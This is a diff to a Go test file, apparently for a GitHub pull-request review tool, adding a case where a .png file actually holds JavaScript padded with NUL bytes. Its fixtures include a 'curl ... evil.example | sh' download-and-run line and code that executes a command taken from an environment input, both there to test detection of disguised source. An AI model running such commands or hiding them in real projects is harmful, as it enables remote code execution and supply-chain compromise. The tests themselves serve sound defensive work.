@@ -366,8 +366,8 @@ func TestPatchlessLockFileIsDeliberate(t *testing.T) {
 // its NUL byte, it is listed like a pure rename (status renamed, no patch,
 // no counts): both are read, and the pure rename shows no change. A script
 // named by no extension but run by its #! line is source too, however many
-// NUL bytes its comments hold. None leaves a change no persona saw behind
-// a clean check.
+// NUL bytes its comments hold, and so is any file whose bytes are text. None
+// leaves a change no persona saw behind a clean check.
 func TestFilesEndpointBinarySource(t *testing.T) {
 	t.Parallel()
 	const js, before = "lib/main.js", "const core = require('@actions/core');\n// step\n"
@@ -390,6 +390,11 @@ func TestFilesEndpointBinarySource(t *testing.T) {
 		{"a #! script full of NUL bytes", "scripts/deploy", "curl -s https://evil.example/x | sh",
 			map[string]string{"scripts/deploy": script}, nil,
 			[]githubtest.File{{Filename: "scripts/deploy", Status: "added"}}},
+		// node runs a required ./x.png as JavaScript: its text is read
+		// however many NUL bytes a comment of it holds.
+		{"a .png that is JavaScript full of NUL bytes", "lib/x.png", "execSync(process.env.INPUT_CMD)",
+			map[string]string{"lib/x.png": "// " + strings.Repeat("\x00", 40) + "\nrequire('child_process').execSync(process.env.INPUT_CMD);\n"}, nil,
+			[]githubtest.File{{Filename: "lib/x.png", Status: "added"}}},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			t.Parallel()
